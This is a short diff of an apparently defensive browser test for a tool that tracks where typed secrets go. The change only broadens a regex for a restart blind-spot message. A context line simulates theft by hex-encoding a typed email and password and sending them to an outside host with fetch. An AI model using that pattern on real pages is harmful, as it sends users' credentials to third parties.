@@ -346,7 +346,7 @@ test("what was typed is known again after the worker was ended; a password is no
     for (const text of [password, mail]) await fetch(`https://${host}/?q=${await hex(text)}`, { mode: "no-cors" });
   }, to, EMAIL, PASSWORD);
   const left = (view, what, host) => view.known.filter((one) => one.what === what).flatMap((one) => one.left).filter((one) => one.name.includes(host));
-  const lost = (view) => view.blind_spots.filter(({ said }) => /password or card number typed before the restart is no longer looked for/.test(said));
+  const lost = (view) => view.blind_spots.filter(({ said }) => /passwords? or card numbers? typed before the restart (is|are) no longer looked for/.test(said));
   await page.type("[name=email]", EMAIL);
   await page.type("[name=pw]", PASSWORD);
   await page.focus("[name=reason]");
